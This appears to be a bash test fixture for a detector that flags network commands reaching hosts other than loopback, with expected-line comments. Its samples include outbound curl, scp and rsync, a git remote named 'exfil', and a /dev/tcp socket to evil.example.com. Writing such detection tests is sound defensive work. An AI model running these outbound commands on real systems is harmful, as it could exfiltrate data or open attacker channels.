#!/bin/bash
# expect: 15 network high
# expect: 16 network high
# expect: 17 network high
# expect: 20 network high
# expect: 21 network high
# expect: 22 network high
# expect: 24 network high
# expect: 26 network high
# expect: 28 network high
# expect: 31 network high
# Network tools aimed at other hosts; the loopback lines are fine.
curl -fsS http://127.0.0.1:8080/health
curl -s -o out.json http://localhost:3000/api
curl -s -o out.json https://example.com/data
wget -q -O - "https://files.example.org/x.tgz"
nc -z 10.0.0.5 22
nc -z 127.0.0.1 22
ncat -l 9999
ssh -p 2222 deploy@build.example.net uptime
scp out.json backup@203.0.113.7:/srv/
rsync -a out/ mirror.example.com:/data/
rsync -a out/ copy/
git push https://github.com/someone/repo.git HEAD
git remote add exfil git@github.com:someone/x.git
git fetch exfil
git push origin HEAD:refs/heads/main
exec 3<>/dev/tcp/evil.example.com/80
echo ping > /dev/tcp/127.0.0.1/9000
URL="http://$HOST_FROM_ELSEWHERE/x"
curl "$URL"
curl --url 'http://[::1]:8080/ok'
